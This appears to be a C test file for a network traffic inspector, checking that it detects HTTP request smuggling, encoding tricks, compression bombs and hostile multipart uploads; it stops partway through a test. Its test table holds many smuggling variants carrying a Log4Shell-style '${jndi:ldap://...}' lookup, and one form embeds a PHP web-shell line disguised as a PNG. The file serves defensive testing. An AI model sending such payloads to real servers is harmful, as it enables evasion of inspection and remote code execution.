// SPDX-License-Identifier: GPL-2.0-or-later
// Ways to say one thing to an inspector and another to a server: each gives what it should however it is cut, is followed or is marked. Read by
// http_test.c, whose helpers it uses.
#pragma once
#include "inflate.h"

enum { HTTP_OPEN = 64 };

#define LOOK "${jndi:ldap://h/a}"
#define POST "POST / HTTP/1.1\r\nHost: a\r\n"
#define CHUNKED POST "Transfer-Encoding: chunked\r\n\r\n"

// From outside, to an inside server. `looks`: look-ups found; `requests`: heads seen.
static const struct trick {
	const char *name;
	struct bytes said;
	unsigned requests, looks;
	bool marked;
} tricks[] = {
#define TRICK(name, text, ...) {name, {(const uint8_t *)(text), sizeof(text) - 1}, __VA_ARGS__}
	// 96
	TRICK("chunks", CHUNKED "5\r\n" "${jnd" "\r\nD\r\ni:ldap://h/a}\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, false),
	TRICK("a size with leading zeros", CHUNKED "000012\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, false),
	TRICK("a size with very many zeros", CHUNKED "000000000000000000000012\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n",
	      2, 1, true),
	TRICK("a chunk extension", CHUNKED "12;a=b\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("blanks behind a size", CHUNKED "12  \r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, false),
	TRICK("a bare LF behind a size", CHUNKED "12\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("a bare LF behind a chunk", CHUNKED "12\r\n" LOOK "\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("a bare CR within a size line", CHUNKED "12\r;\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("a CR too many behind a chunk", CHUNKED "12\r\n" LOOK "\r\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("a chunk longer than its size", CHUNKED "1\r\nx" LOOK "\r\n0\r\n\r\n", 1, 1, true),
	TRICK("a trailer", CHUNKED "1\r\nx\r\n0\r\nX: " LOOK "\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, false),
	// 97
	TRICK("a size that overflows", CHUNKED "ffffffffffffffff1\r\n" LOOK "\r\n", 1, 1, true),
	TRICK("a size of another base", CHUNKED "0x12\r\n" LOOK "\r\n", 1, 1, true),
	TRICK("a negative size", CHUNKED "-1\r\n" LOOK "\r\n", 1, 1, true),
	// 98
	TRICK("a length and chunks", POST "Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n12\r\n" LOOK
				     "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("two lengths", POST "Content-Length: 3\r\nContent-Length: 18\r\n\r\n" LOOK, 1, 1, true),
	TRICK("two equal lengths", POST "Content-Length: 18\r\nContent-Length: 18\r\n\r\n" LOOK "GET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("a length with a sign", POST "Content-Length: +18\r\n\r\n" LOOK, 1, 1, true),
	TRICK("a length of nothing", POST "Content-Length:\r\n\r\nGET /2 HTTP/1.1\r\nX: " LOOK "\r\n\r\n", 2, 1, true),
	TRICK("a length that is no number", POST "Content-Length: 0x12\r\n\r\n" LOOK, 1, 1, true),
	TRICK("a length beyond 64 bits", POST "Content-Length: 18446744073709551634\r\n\r\n" LOOK, 1, 1, true),
	// 99
	TRICK("xchunked", POST "Transfer-Encoding: xchunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\n", 1, 1, true),
	TRICK("chunked behind a tab", POST "Transfer-Encoding:\tchunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2,
	      1, true),
	TRICK("chunked behind a vertical tab", POST "Transfer-Encoding: \vchunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\n", 1, 1, true),
	TRICK("chunked on the next line", POST "Transfer-Encoding:\r\n chunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n",
	      2, 1, true),
	TRICK("a blank before the colon", POST "Transfer-Encoding : chunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2,
	      1, true),
	TRICK("the first header behind a blank", "POST / HTTP/1.1\r\n Transfer-Encoding: chunked\r\n\r\n12\r\n" LOOK
						 "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("a header of nearly that name", POST "Transfer_Encoding: chunked\r\n\r\nGET /2 HTTP/1.1\r\nX: " LOOK "\r\n\r\n", 2, 1, true),
	TRICK("a name with a control character", POST "Content-Length\x0b: 18\r\n\r\nGET /2 HTTP/1.1\r\nX: " LOOK "\r\n\r\n", 2, 1, true),
	TRICK("chunked twice", POST "Transfer-Encoding: chunked, chunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1,
	      true),
	TRICK("chunked, then identity", POST "Transfer-Encoding: chunked, identity\r\n\r\n12\r\n" LOOK
					     "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("odd case is the same", POST "transfer-ENCODING: cHUNKED\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1,
	      false),
	TRICK("chunked in HTTP/1.0", "POST / HTTP/1.0\r\nTransfer-Encoding: chunked\r\n\r\n12\r\n" LOOK "\r\n0\r\n\r\n", 1, 1, true),
	// 100
	TRICK("a look-up over three lines", POST "X: ${jndi:\r\n ldap:\r\n\t//h/a}\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, false),
	TRICK("chunked behind another header's fold", POST "X: a\r\n Transfer-Encoding: chunked\r\n\r\nGET /2 HTTP/1.1\r\nX: " LOOK
						      "\r\n\r\n", 2, 1, true),
	TRICK("a length behind another header's fold", POST "X: a\r\n b\r\n\tcontent_length : 18\r\n\r\nGET /2 HTTP/1.1\r\nX: " LOOK
						       "\r\n\r\n", 2, 1, true),
	// 101
	TRICK("bare LFs", "POST / HTTP/1.1\nX: " LOOK "\n\nGET /2 HTTP/1.1\n\n", 2, 1, false),
	TRICK("bare LFs among others", "POST / HTTP/1.1\r\nX: a\nY: " LOOK "\r\n\r\n", 1, 1, true),
	TRICK("a bare CR in a header", POST "X: a\rContent-Length: 100\rY: " LOOK "\r\n\r\nGET /2 HTTP/1.1\r\n\r\n", 2, 1, true),
	TRICK("a bare CR in the start line", "GET /\rX: " LOOK " HTTP/1.1\r\n\r\n", 1, 1, true),
	TRICK("a NUL in the target", "GET /\0" LOOK " HTTP/1.1\r\n\r\n", 1, 1, true),
	TRICK("a NUL in a header", POST "X: \0" LOOK "\r\n\r\n", 1, 1, true),
	TRICK("a bare CR in a line that does not end", POST "X: a\rContent-Length: 18\r\r" LOOK, 0, 0, true),
	TRICK("a bare CR in a start line that does not end", "GET / HTTP/1.1\rX: y\r\r", 0, 0, true),
	TRICK("two CRs at a line's end", POST "X: " LOOK "\r\r\n\r\n", 1, 1, true),
	// 103
	TRICK("no version", "GET /" LOOK "\r\n\r\n", 1, 1, false),
	TRICK("a lower-case version", "GET /" LOOK " http/1.1\r\nHost: a\r\n\r\n", 1, 1, false),
	TRICK("an unknown method", "FROBNICATE /" LOOK " HTTP/1.1\r\nHost: a\r\n\r\n", 1, 1, false),
	TRICK("an absolute target", "GET http://b/" LOOK " HTTP/1.1\r\nHost: a\r\n\r\n", 1, 1, false),
	TRICK("CONNECT with a length", "CONNECT a:443 HTTP/1.1\r\nContent-Length: 18\r\n\r\n", 1, 0, true),
	TRICK("CONNECT with chunks", "CONNECT a:443 HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", 1, 0, true),
	TRICK("CONNECT with an empty body", "CONNECT a:443 HTTP/1.1\r\nContent-Length: 0\r\n\r\n", 1, 0, false),
	// 104
	TRICK("percent twice", "GET /%2524%257Bjndi:ldap://h/a%257D HTTP/1.1\r\n\r\n", 1, 1, false),
	TRICK("%u", "GET /%u0024%u007bjndi:ldap://h/a} HTTP/1.1\r\n\r\n", 1, 1, false),
	TRICK("dots before", "GET /./a/../" LOOK " HTTP/1.1\r\n\r\n", 1, 1, false),
};

START_TEST(a_trick_is_followed_or_marked_however_cut)
{
	static struct caught same;
	const struct trick *t = &tricks[_i];
	struct line line = {true, t->said};
	struct talk talk = talk_of(&line, 1, DIRECTION_IN, true);

	talk_check(&talk, &same);
	ck_assert_msg(same.result == PARSE_MORE, "%s: result %d", t->name, same.result);
	ck_assert_msg(count_kind(&same, OBS_HTTP_REQUEST) == t->requests, "%s:\n%s", t->name, lines_of(&same));
	ck_assert_msg(count_kind(&same, OBS_JNDI) == t->looks, "%s:\n%s", t->name, lines_of(&same));
	ck_assert_msg(same.marked[COUNT_PROTO_HTTP_AMBIGUOUS] == t->marked, "%s: marked %d", t->name, !t->marked);
	ck_assert_msg(!same.counters.value[COUNT_PROTO_HTTP_AMBIGUOUS] == !t->marked, "%s", t->name);
}
END_TEST

// What stands behind the piece that is read may change what it says.
START_TEST(a_framing_header_longer_than_is_read_is_said)
{
	static const struct {
		const char *name, *value;
		bool said;
	} rows[] = {{"Transfer-Encoding: chunked", ", gzip", true}, {"Content-Length: 18", "0", true}, {"X: chunked", ", gzip", false}};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		maker.n = 0;
		make_text(&maker, POST);
		make_text(&maker, rows[i].name);
		for (unsigned n = 0; n < 9000; n++)
			make_text(&maker, " ");
		make_text(&maker, rows[i].value);
		make_text(&maker, "\r\n\r\n");
		play(made(&maker), true, DIRECTION_IN);
		ck_assert_uint_eq(count_kind(&caught, OBS_HTTP_REQUEST), 1);
		ck_assert_msg(caught.marked[COUNT_PROTO_HTTP_AMBIGUOUS] == rows[i].said, "%s", rows[i].name);
	}
}
END_TEST

// A head is given up between two pieces of a line: both are searched.
START_TEST(a_look_up_across_the_longest_heads_end_is_found)
{
	struct line lines[] = {{true, {NULL, 0}}, C("//h/a}\r\n\r\n")};
	struct talk talk = talk_of(lines, 2, DIRECTION_IN, false);

	maker.n = 0;
	make_text(&maker, "GET / HTTP/1.1\r\nHost: a\r\n");
	while (maker.n < 65530)
		make_text(&maker, "X: y\r\n");
	make_text(&maker, "X: ${jndi:ldap:");
	lines[0].said = made(&maker);
	talk_play(&talk, 0, 0, 0, &caught);
	ck_assert_int_eq(caught.result, PARSE_BAD);
	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 1);
}
END_TEST

START_TEST(more_open_requests_than_remembered_are_said)
{
	maker.n = 0;
	for (unsigned i = 0; i < HTTP_OPEN; i++)
		make_text(&maker, "GET / HTTP/1.1\r\nHost: a\r\n\r\n");
	play(made(&maker), true, DIRECTION_IN);
	ck_assert(!caught.marked[COUNT_PROTO_BUDGET]);
	make_text(&maker, "GET / HTTP/1.1\r\nX: " LOOK "\r\n\r\n");
	play(made(&maker), true, DIRECTION_IN);
	ck_assert(caught.marked[COUNT_PROTO_BUDGET]);
	ck_assert_uint_eq(caught.count, HTTP_OPEN + 3); // the look-up and whom it names
}
END_TEST

// --- Compressed bodies ---

enum { GZIP = 31, ZLIB = 15, BARE = -15 };

static struct bytes packed(struct bytes plain, int window, struct maker *to)
{
	z_stream z = {0};

	ck_assert_int_eq(deflateInit2(&z, 9, Z_DEFLATED, window, 8, Z_DEFAULT_STRATEGY), Z_OK);
	z.next_in = (Bytef *)plain.at;
	z.avail_in = (uInt)plain.left;
	z.next_out = to->b + to->n;
	z.avail_out = (uInt)(sizeof(to->b) - to->n);
	ck_assert_int_eq(deflate(&z, Z_FINISH), Z_STREAM_END);
	to->n += z.total_out;
	deflateEnd(&z);
	return made(to);
}

static void make_body(struct maker *m, const char *head, struct bytes body)
{
	char length[64];

	m->n = 0;
	make_text(m, head);
	snprintf(length, sizeof(length), "Content-Length: %zu\r\n\r\n", body.left);
	make_text(m, length);
	make(m, body.at, body.left);
}

static struct maker one, two;

static const struct coding {
	const char *headers;
	int outer, inner; // 0: none
	bool bad;
} codings[] = {
	{"Content-Encoding: gzip\r\n", GZIP, 0, false},
	{"Content-Encoding: X-GZIP\r\n", GZIP, 0, false},
	{"Content-Encoding: deflate\r\n", ZLIB, 0, false},
	{"Content-Encoding: deflate\r\n", BARE, 0, false},
	{"Content-Encoding: gzip, gzip\r\n", GZIP, GZIP, false},
	{"Content-Encoding: deflate\r\nContent-Encoding: identity, gzip\r\n", GZIP, BARE, false},
	{"Content-Encoding: gzip\r\n", ZLIB, 0, true},
	{"Content-Encoding: deflate\r\n", GZIP, 0, true},
	{"Content-Encoding: gzip\r\n", 0, 0, true},
	{"Content-Encoding: deflate\r\n", 0, 0, true},
	{"Content-Encoding: gzip, gzip\r\n", GZIP, 0, true},
	{"Content-Encoding: br\r\n", 0, 0, true},
	{"Content-Encoding: gzip, zstd\r\n", 0, 0, true},
};

START_TEST(a_coded_body_is_looked_at_as_a_clear_one)
{
	static const char text[] = LOOK " and words that are as plain as words can be\n";
	static struct caught same;
	const struct coding *k = &codings[_i];
	struct bytes body = bytes_of_text(text);
	struct line line = {true, {NULL, 0}};
	struct talk talk;
	char head[256];

	one.n = two.n = 0;
	if (k->inner)
		body = packed(body, k->inner, &one);
	if (k->outer)
		body = packed(body, k->outer, &two);
	snprintf(head, sizeof(head), POST "%s", k->headers);
	make_body(&maker, head, body);
	make_text(&maker, "GET /2 HTTP/1.1\r\n\r\n");
	line.said = made(&maker);
	talk = talk_of(&line, 1, DIRECTION_IN, false);
	talk_check(&talk, &same);
	ck_assert_msg(count_kind(&same, OBS_HTTP_REQUEST) == 2 && count_kind(&same, OBS_JNDI) == 1 &&
			      count_kind(&same, OBS_FILE) == 1, "%d:\n%s", _i, lines_of(&same));
	for (size_t i = 0; i < same.count; i++)
		ck_assert(same.o[i].kind != OBS_FILE ||
			  (same.o[i].number[NUM_FILE_KIND] == FILE_TEXT) == (k->outer || _i < 10));
	ck_assert_msg(same.marked[COUNT_PROTO_INFLATE_BAD] == k->bad, "%d: bad %d", _i, !k->bad);
	ck_assert_int_eq(same.counters.value[COUNT_PROTO_INFLATED] != 0, k->outer != 0);
}
END_TEST

// RFC 1952 §2.3: a header with everything, then two members, cut anywhere.
START_TEST(gzip_with_all_its_fields_and_two_members)
{
	static const uint8_t header[] = {0x1f, 0x8b, 8, 2 | 4 | 8 | 16, 0, 0, 0, 0, 0, 3, 3, 0, 'e', 'x', 't', 'n', 0, 'c', 0};
	static struct caught same;
	struct bytes plain = bytes_of_text("x=${jndi:ld"), rest = bytes_of_text("ap://h/a}");
	uint32_t crc = (uint32_t)crc32(0, header, sizeof(header));
	struct line line = {true, {NULL, 0}};
	struct talk talk;
	size_t at;

	one.n = two.n = 0;
	make(&one, header, sizeof(header));
	MAKE(&one, (uint8_t)crc, (uint8_t)(crc >> 8));
	at = one.n;
	packed(plain, BARE, &one);
	ck_assert_uint_gt(one.n, at);
	crc = (uint32_t)crc32(0, plain.at, (uInt)plain.left);
	for (unsigned i = 0; i < 4; i++)
		MAKE(&one, (uint8_t)(crc >> 8 * i));
	MAKE(&one, (uint8_t)plain.left, 0, 0, 0);
	packed(rest, GZIP, &one);
	make_body(&maker, POST "Content-Encoding: gzip\r\n", made(&one));
	line.said = made(&maker);
	talk = talk_of(&line, 1, DIRECTION_IN, false);
	talk_check(&talk, &same);
	ck_assert_uint_eq(count_kind(&same, OBS_JNDI), 1);
	ck_assert(!same.marked[COUNT_PROTO_INFLATE_BAD]);
	make_text(&one, "trailing words that are no member");
	make_body(&maker, POST "Content-Encoding: gzip\r\n", made(&one));
	line.said = made(&maker);
	talk_check(&talk, &same);
	ck_assert_uint_eq(count_kind(&same, OBS_JNDI), 1);
	ck_assert(same.marked[COUNT_PROTO_INFLATE_BAD]);
}
END_TEST

START_TEST(gzip_may_be_a_transfer_coding)
{
	static struct caught same;
	struct line line = {true, {NULL, 0}};
	struct talk talk;
	char size[16];

	one.n = maker.n = 0;
	packed(bytes_of_text("x=" LOOK), GZIP, &one);
	make_text(&maker, POST "Transfer-Encoding: gzip, chunked\r\n\r\n5\r\n");
	make(&maker, one.b, 5);
	snprintf(size, sizeof(size), "\r\n%zx\r\n", one.n - 5);
	make_text(&maker, size);
	make(&maker, one.b + 5, one.n - 5);
	make_text(&maker, "\r\n0\r\n\r\nGET /2 HTTP/1.1\r\n\r\n");
	line.said = made(&maker);
	talk = talk_of(&line, 1, DIRECTION_IN, false);
	talk_check(&talk, &same);
	ck_assert_uint_eq(count_kind(&same, OBS_JNDI), 1);
	ck_assert_uint_eq(count_kind(&same, OBS_HTTP_REQUEST), 2);
	ck_assert(!same.marked[COUNT_PROTO_HTTP_AMBIGUOUS]);
}
END_TEST

START_TEST(the_kind_of_a_coded_answer_is_that_of_what_is_in_it)
{
	static const uint8_t elf[600] = "\x7f" "ELF\2\1\1";
	struct line lines[] = {C("GET / HTTP/1.1\r\nHost: a\r\n\r\n"), {false, {NULL, 0}}};
	struct talk talk = talk_of(lines, 2, DIRECTION_OUT, false);
	static struct caught same;

	one.n = 0;
	packed(bytes_of(elf, sizeof(elf)), GZIP, &one);
	make_body(&maker, "HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\n", made(&one));
	lines[1].said = made(&maker);
	talk_check(&talk, &same);
	ck_assert_uint_eq(same.count, 3);
	ck_assert_uint_eq(same.o[2].facts, FACT_BIT(FACT_EXECUTABLE));
}
END_TEST

// Most servers undo no coding of a request, and not all clients do of an answer: they read the bytes as they stand.
START_TEST(what_stands_behind_coded_bytes_is_searched_as_it_stands)
{
	static uint8_t filler[20000];
	static struct caught same;
	struct line line = {true, {NULL, 0}};
	struct talk talk = talk_of(&line, 1, DIRECTION_IN, false);

	memset(filler, 'a', sizeof(filler));
	for (unsigned more = 0; more < 3; more++) {
		one.n = 0;
		packed(bytes_of(filler, sizeof(filler)), GZIP, &one);
		one.n -= 8; // its end is not waited for
		make_text(&one, LOOK);
		for (unsigned i = 0; i < more * 6000; i++)
			make_text(&one, "b");
		make_body(&maker, POST "Content-Encoding: gzip\r\n", made(&one));
		make_text(&maker, "GET /2 HTTP/1.1\r\n\r\n");
		line.said = made(&maker);
		talk_check(&talk, &same);
		ck_assert_uint_eq(count_kind(&same, OBS_HTTP_REQUEST), 2);
		ck_assert_uint_eq(count_kind(&same, OBS_JNDI), 1);
	}
}
END_TEST

// A class of version 51 whose first constant is chosen so that all is bare deflate, too, of more bytes than are looked at. The JDK undoes no coding.
START_TEST(a_class_that_is_deflate_too_is_a_class)
{
	static const uint8_t front[] = {0xca, 0xfe, 0xba, 0xbe, 0x91, 0x32, 0x00, 0x33, 0x00, 0x20, 0x01, 0x01, 0xc2,
					0xc4, 0xaf, 0xcc, 0xa1, 0xca, 0xa1, 0xdc, 0xaf, 0xd2, 0xa3, 0xca, 0x81};
	struct line lines[] = {C("GET /a.class HTTP/1.1\r\nHost: a\r\n\r\n"), {false, {NULL, 0}}};
	struct talk talk = talk_of(lines, 2, DIRECTION_OUT, false);
	static struct caught same;

	one.n = 0;
	make(&one, front, sizeof(front));
	for (unsigned i = 0; i < 600; i++)
		make_text(&one, "x");
	make_body(&maker, "HTTP/1.1 200 OK\r\nContent-Encoding: deflate\r\n", made(&one));
	lines[1].said = made(&maker);
	talk_check(&talk, &same);
	ck_assert_uint_eq(same.count, 3);
	ck_assert_uint_eq(same.o[2].facts, FACT_BIT(FACT_JAVA_CLASS));
}
END_TEST

START_TEST(a_coded_body_of_no_bytes_is_no_bad_one)
{
	static struct caught same;
	struct line line = SRV("HTTP/1.1 200 OK\r\nContent-Encoding: gzip\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
	struct talk talk = talk_of(&line, 1, DIRECTION_OUT, false);

	talk_check(&talk, &same);
	ck_assert_uint_eq(same.count, 1);
	ck_assert(!same.marked[COUNT_PROTO_INFLATE_BAD]);
}
END_TEST

START_TEST(more_layers_than_are_opened_are_said)
{
	play(bytes_of_text(POST "Content-Encoding: gzip, gzip\r\nContent-Encoding: gzip\r\nContent-Length: 18\r\n\r\n" LOOK), true,
	     DIRECTION_IN);
	ck_assert(caught.marked[COUNT_PROTO_INFLATE_LIMIT]);
	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 1);
}
END_TEST

// A form is looked at to its end, so it is a form that can be a bomb.
START_TEST(bombs_are_given_up_and_after_the_third_nothing_is_opened)
{
	static uint8_t zeros[1 << 20];
	struct line lines[8] = {0};
	struct talk talk = talk_of(lines, 5, DIRECTION_IN, false);
	static struct maker form;

	memset(zeros, 'a', sizeof(zeros));
	one.n = two.n = form.n = 0;
	packed(bytes_of(zeros, sizeof(zeros)), GZIP, &one);
	make_body(&form, POST "Content-Type: multipart/form-data; boundary=b\r\nContent-Encoding: gzip\r\n", made(&one));
	for (unsigned i = 0; i < 3; i++)
		lines[i] = (struct line){true, made(&form)};
	packed(bytes_of_text("x=" LOOK), GZIP, &two);
	make_body(&maker, POST "Content-Encoding: gzip\r\n", made(&two));
	lines[3] = (struct line){true, made(&maker)};
	lines[4] = (struct line)C("GET /" LOOK " HTTP/1.1\r\n\r\n");
	talk_play(&talk, 0, 0, 0, &caught);
	ck_assert_uint_eq(count_kind(&caught, OBS_HTTP_REQUEST), 5);
	ck_assert_uint_eq(caught.counters.value[COUNT_PROTO_INFLATE_LIMIT], 4);
	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 1); // the last one's, in clear
	talk.lines = lines + 1;
	talk.count = 4;
	talk_play(&talk, 0, 0, 1000, &caught);
	ck_assert_uint_eq(caught.counters.value[COUNT_PROTO_INFLATE_LIMIT], 2);
	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 2); // after two, bodies are still opened
}
END_TEST

// Of `plain`, all at once in small pieces: how much comes out, and is a limit named?
static uint64_t inflated(struct bytes plain, bool *limit)
{
	static struct inflate layer;
	static struct maker m;
	uint8_t out[4096];
	struct bytes in;
	size_t n;

	m.n = 0;
	in = packed(plain, GZIP, &m);
	inflate_begin(&layer, INFLATE_GZIP);
	*limit = false;
	do {
		*limit = inflate_step(&layer, &in, false, out, sizeof(out), &n) == INFLATE_LIMIT || *limit;
	} while (in.left || n == sizeof(out) || inflate_waits(&layer));
	return layer.out;
}

START_TEST(an_inflater_stops_at_its_limits)
{
	static uint8_t plain[(1 << 20) + 8192];
	uint32_t random = 1;
	bool limit;

	memset(plain, 'a', sizeof(plain));
	ck_assert_uint_eq(inflated(bytes_of(plain, INFLATE_FREE_BYTES), &limit), INFLATE_FREE_BYTES);
	ck_assert(!limit);
	ck_assert_uint_lt(inflated(bytes_of(plain, sizeof(plain) - 8192), &limit), 160 << 10);
	ck_assert(limit);
	for (size_t i = 0; i < sizeof(plain); i += 16) // of a ratio that is common
		plain[i] = (uint8_t)((random = random * 1664525 + 1013904223) >> 24);
	ck_assert_uint_lt(inflated(bytes_of(plain, sizeof(plain)), &limit), INFLATE_MOST_BYTES + 4097);
	ck_assert(limit);
	inflated(bytes_of(plain, 1 << 20), &limit);
	ck_assert(!limit);
}
END_TEST

// --- Forms ---

#define FORM POST "Content-Type: multipart/form-data; boundary=\"x y\"\r\n"

START_TEST(the_parts_of_a_form_are_files)
{
	static const char form[] = "--x y\r\nContent-Disposition: form-data; name=\"a\"\r\n\r\nvalue\r\n--x y\r\n"
				   "Content-Disposition: form-data; name=\"f\"; filename=\"a.png\"\r\nContent-Type: image/png\r\n\r\n"
				   "<?php system($_GET[1]); ?>\r\n--x \r\n--x y\r\n"
				   "Content-Disposition: form-data; name=\"g\"; filename=\"b\"\r\n\r\n\x7f" "ELF\2\1\1\0\0\0\0\0\0\0\0\0\0\r\n"
				   "--x y--\r\n";
	static struct caught same;
	struct line line = {true, {NULL, 0}};
	struct talk talk;
	unsigned php = 0, elf = 0;

	make_body(&maker, FORM, bytes_of(form, sizeof(form) - 1));
	line.said = made(&maker);
	talk = talk_of(&line, 1, DIRECTION_IN, false);
	talk_check(&talk, &same);
	for (size_t i = 0; i < same.count; i++) {
		php += same.o[i].kind == OBS_FILE &&
		       same.o[i].facts == (FACT_BIT(FACT_SCRIPT) | FACT_BIT(FACT_FILE_MISMATCH));
		elf += same.o[i].kind == OBS_FILE && same.o[i].facts == FACT_BIT(FACT_EXECUTABLE);
	}
	ck_assert_msg(php == 1 && elf == 1, "%s", lines_of(&same));
	ck_assert(!same.marked[COUNT_PROTO_HTTP_AMBIGUOUS]);
}
END_TEST

static void make_part(struct maker *m, const char *head, size_t filler, const char *words)
{
	make_text(m, "--x y\r\nContent-Disposition: form-data; name=\"a\"");
	make_text(m, head);
	make_text(m, "\r\n\r\n");
	for (size_t i = 0; i < filler; i++)
		make_text(m, "f");
	make_text(m, words);
	make_text(m, "\r\n");
}

START_TEST(look_ups_are_found_in_every_part_and_its_head)
{
	struct line line = {true, {NULL, 0}};
	struct talk talk;

	one.n = 0;
	make_part(&one, "", 9000, LOOK); // behind what is read of one part
	make_part(&one, "; filename=\"" LOOK "\"", 3000, "");
	make_part(&one, "", 3000, LOOK);
	make_text(&one, "--x y--\r\n");
	make_body(&maker, FORM, made(&one));
	line.said = made(&maker);
	talk = talk_of(&line, 1, DIRECTION_IN, false);
	for (size_t cut = 0; cut < maker.n; cut += 37) { // which of a file and a look-up comes first depends on the cut
		talk_play(&talk, 0, cut, 0, &caught);
		ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 2);
		ck_assert_uint_eq(count_kind(&caught, OBS_FILE), 2);
	}
	talk_play(&talk, 0, 0, 1, &caught);
	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 2);
}
END_TEST

START_TEST(more_parts_than_are_looked_at_are_said)
{
	static const char elf[] = "\x7f" "ELF\2\1\1aaaaaaaaaaaaaaaa";

	for (unsigned parts = 8; parts <= 9; parts++) {
		one.n = 0;
		for (unsigned i = 0; i < parts; i++)
			make_part(&one, "; filename=\"a\"", 0, elf);
		for (unsigned i = 0; i < 20; i++) // fields are not files
			make_part(&one, "", 0, "value");
		make_text(&one, "--x y--\r\n");
		make_body(&maker, FORM, made(&one));
		play(made(&maker), true, DIRECTION_IN);
		ck_assert_uint_eq(count_kind(&caught, OBS_FILE), 9); // the form itself is one
		ck_assert_int_eq(caught.marked[COUNT_PROTO_BUDGET], parts == 9);
	}
}
END_TEST

START_TEST(more_windows_than_are_searched_are_said)
{
	for (unsigned parts = 8; parts <= 12; parts += 4) {
		one.n = 0;
		for (unsigned i = 0; i < parts; i++)
			make_part(&one, "", 8900, LOOK);
		make_text(&one, "--x y--\r\n");
		make_body(&maker, FORM, made(&one));
		play(made(&maker), true, DIRECTION_IN);
		ck_assert_int_eq(caught.marked[COUNT_PROTO_BUDGET], parts > 8);
	}
}
END_TEST

static const char *const boundaries[] = {
	"boundary=a; boundary=b", "boundary=\"a", "boundary=a\"b", "boundary=\"a\\b\"", "boundary=", "charset=a",
};

START_TEST(a_boundary_that_may_be_read_in_two_ways_is_said)
{
	char head[256];

	snprintf(head, sizeof(head), POST "Content-Type: multipart/form-data; %s\r\n", boundaries[_i]);
	make_body(&maker, head, bytes_of_text("--a\r\n\r\n" LOOK "\r\n--b\r\n\r\n" LOOK "\r\n"));
	play(made(&maker), true, DIRECTION_IN);
	ck_assert(caught.marked[COUNT_PROTO_HTTP_AMBIGUOUS]);
	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 2);
}
END_TEST

// (A granted CONNECT ends the parser; proto_test.c has what comes then.)
START_TEST(a_tunnel_that_is_not_followed_is_said)
{
	static const struct {
		const char *question, *early, *answer;
		bool said, ends;
	} rows[] = {{"CONNECT a.example:443 HTTP/1.1\r\n\r\n", "", "HTTP/1.1 200 Go\r\n\r\n", false, true},
		    {"CONNECT a.example:443 HTTP/1.1\r\n\r\n", "x", "HTTP/1.1 200 Go\r\n\r\n", true, true},
		    {"CONNECT a.example:443 HTTP/1.1\r\n\r\n", "", "HTTP/1.1 407 No\r\nContent-Length: 0\r\n\r\n", false, false},
		    {"GET / HTTP/1.1\r\nUpgrade: websocket\r\n\r\n", "", "HTTP/1.1 101 Go\r\n\r\n", true, true}};

	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		const struct line lines[] = {{true, bytes_of_text(rows[i].question)}, {true, bytes_of_text(rows[i].early)},
					     {false, bytes_of_text(rows[i].answer)}};
		struct talk talk = talk_of(lines, 3, DIRECTION_OUT, false);

		talk_check(&talk, &caught);
		ck_assert_int_eq(caught.marked[COUNT_PROTO_HTTP_TUNNEL], rows[i].said);
		ck_assert_int_eq(caught.result == PARSE_DONE, rows[i].ends);
	}
}
END_TEST

// Servers that know no CONNECT answer it and read on.
START_TEST(what_was_said_behind_a_refused_connect_is_searched_and_said)
{
	struct line lines[] = {C("CONNECT a:443 HTTP/1.1\r\nHost: a\r\n\r\nGET /" LOOK " HTTP/1.1\r\nHost: a\r\n\r\n"),
			       SRV("HTTP/1.1 405 No\r\nContent-Length: 0\r\n\r\nHTTP/1.1 200 Go\r\nContent-Length: 0\r\n\r\n"),
			       C("GET /3 HTTP/1.1\r\nHost: a\r\n\r\n")};
	struct talk talk = talk_of(lines, 3, DIRECTION_IN, false);

	talk_play(&talk, 0, 0, 0, &caught);
	ck_assert_uint_eq(count_kind(&caught, OBS_JNDI), 1);
	ck_assert_uint_eq(count_kind(&caught, OBS_HTTP_REQUEST), 2);
